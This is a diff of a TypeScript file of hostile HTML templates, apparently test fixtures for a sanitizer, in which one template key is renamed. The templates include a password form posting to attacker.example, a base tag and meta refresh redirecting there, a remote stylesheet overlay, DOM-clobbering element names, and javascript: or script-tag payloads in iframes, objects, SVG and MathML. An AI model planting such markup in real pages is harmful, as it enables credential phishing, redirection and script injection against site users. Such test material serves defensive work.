@@ -12,7 +12,7 @@ export const hostileTemplates: Readonly<Record<string, string>> = {
   styles: `<style>* { display: none !important }</style><link rel="stylesheet" href="https://attacker.example/x.css"><div style="position:fixed;inset:0;z-index:9" class="sc-a">${slots}</div>`,
   'a form': `<form id="f" name="forms" action="https://attacker.example/" method="post"><input name="password" type="password"><textarea>t</textarea><select><option>o</select><button type="submit">Weiter</button>${slots}</form>`,
   'names that clobber': `<img name="getElementById" src="/x.png" width="9" height="9"><form name="body"><input name="attributes"><input name="childNodes"></form><a id="createElement"></a><a id="foyer" name="location" href="/x">x</a>${slots}`,
-  'a form that clobbers itself': `<form data-slot="list"><input name="localName"><input name="dataset"><input name="childNodes"><input name="nodeType"></form>${slots}`,
+  'a form whose fields hide its own properties': `<form data-slot="list"><input name="localName"><input name="dataset"><input name="childNodes"><input name="nodeType"></form>${slots}`,
   'frames and plug-ins': `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe><object data="javascript:window.hostile=1">o</object><embed src="javascript:window.hostile=1"><frameset><frame src="x"></frameset>${slots}`,
   'base, meta and title': `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/"><title>hostile</title>${slots}`,
   'svg and math': `<svg onload="window.hostile=1"><script>window.hostile=1</script><a xlink:href="javascript:window.hostile=1"><text>t</text></a></svg><math><mtext><script>window.hostile=1</script></mtext></math>${slots}`,
